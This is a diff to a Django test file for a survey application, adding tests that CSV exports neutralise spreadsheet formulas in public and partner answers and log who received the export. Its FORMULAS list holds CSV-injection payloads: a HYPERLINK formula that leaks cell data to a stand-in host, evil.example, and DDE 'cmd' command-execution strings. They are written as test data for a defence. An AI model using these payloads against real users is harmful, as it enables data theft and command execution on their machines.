@@ -15,11 +15,15 @@ from django.test import Client
 from django.urls import reverse
 from django.utils import timezone
 
+from accounts.models import Role
+from core.audit import recipient_of
 from core.models import AuditEvent
-from evaluation.models import Audience, Question, Survey
+from evaluation.models import Audience, Question, QuestionKind, Survey
 from evaluation.selectors.surveys_results import survey_results, trust_trend
 from evaluation.services.survey_templates import TRUST_CONFIDENCE
 from evaluation.services.surveys import survey_publish
+from evaluation.services.surveys_questions import question_add
+from tests.accounts.factories import UserFactory
 from tests.conftest import World, sign_in
 from tests.evaluation.factories_surveys import add_every_kind, add_response, make_survey
 from tests.partnerships.factories import NeighbourhoodFactory
@@ -230,7 +234,60 @@ def test_csv_export_has_one_row_per_response_and_no_personal_data(client: Client
     assert sorted(row[3] for row in rows[1:]) == ["", "Disagree", "Strongly agree"]
     assert "@" not in content
     assert world.users["partner_member"].full_name not in content
-    assert AuditEvent.objects.filter(verb="evaluation.survey.exported", target_id=str(survey.pk)).exists()
+    event = AuditEvent.objects.get(verb="evaluation.survey.exported", target_id=str(survey.pk))
+    # The export is a disclosure: its event names who received it (DPA 2018 s.62).
+    assert event.detail == {"rows": 3, "recipient": recipient_of(world.users["partner_lead"])}
+
+
+# Cells a spreadsheet would run (OWASP CSV injection): one starting with each of = + - @.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+]
+
+
+def _exported(client: Client, survey: Survey) -> list[list[str]]:
+    response = client.get(reverse("survey-export", kwargs={"pk": survey.pk}))
+    assert response.status_code == 200
+    content = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
+    return list(csv.reader(io.StringIO(content)))
+
+
+def test_public_answers_that_start_a_formula_are_exported_as_text(world: World) -> None:
+    officer = world.users["officer"]
+    survey = make_survey(officer, publish=False, neighbourhood=NeighbourhoodFactory(organisation=world.force))
+    text = question_add(actor=officer, survey=survey, kind=QuestionKind.TEXT, text="Anything else?")
+    number = question_add(actor=officer, survey=survey, kind=QuestionKind.NUMBER, text="Change since last year?")
+    survey_publish(actor=officer, survey=survey)
+    agreement = survey.questions.get(kind=QuestionKind.AGREEMENT)
+    for formula in FORMULAS:  # each from another browser, as members of the public
+        answer = {f"q_{agreement.pk}": "4", f"q_{text.pk}": formula, f"q_{number.pk}": "-5"}
+        posted = Client().post(reverse("survey-public", kwargs={"token": survey.public_token}), answer)
+        assert posted.status_code == 302
+    rows = _exported(sign_in(Client(), officer), survey)
+    assert sorted(row[4] for row in rows[1:]) == sorted(f"'{formula}" for formula in FORMULAS)
+    # A number the application stored stays a number, negative or not.
+    assert [row[5] for row in rows[1:]] == ["-5.00"] * len(FORMULAS)
+
+
+def test_partner_answers_and_questions_that_start_a_formula_are_exported_as_text(world: World) -> None:
+    lead = world.users["partner_lead"]
+    survey = make_survey(lead, audience=Audience.PARTNER, publish=False)
+    question = question_add(actor=lead, survey=survey, kind=QuestionKind.TEXT, text="=1+1 what went well?")
+    survey_publish(actor=lead, survey=survey)
+    agreement = survey.questions.get(kind=QuestionKind.AGREEMENT)
+    for n, formula in enumerate(FORMULAS):
+        member = UserFactory(email=f"member{n}@council.test", role=Role.PARTNER_MEMBER, organisation=world.partner)
+        client = sign_in(Client(), member)
+        posted = client.post(
+            reverse("survey-answer", kwargs={"pk": survey.pk}), {f"q_{agreement.pk}": "5", f"q_{question.pk}": formula}
+        )
+        assert posted.status_code == 302
+    rows = _exported(sign_in(Client(), lead), survey)
+    assert rows[0][4] == "'=1+1 what went well?"
+    assert sorted(row[4] for row in rows[1:]) == sorted(f"'{formula}" for formula in FORMULAS)
 
 
 def test_trust_trend_filters_rounds_by_the_period_they_opened_in(world: World) -> None:
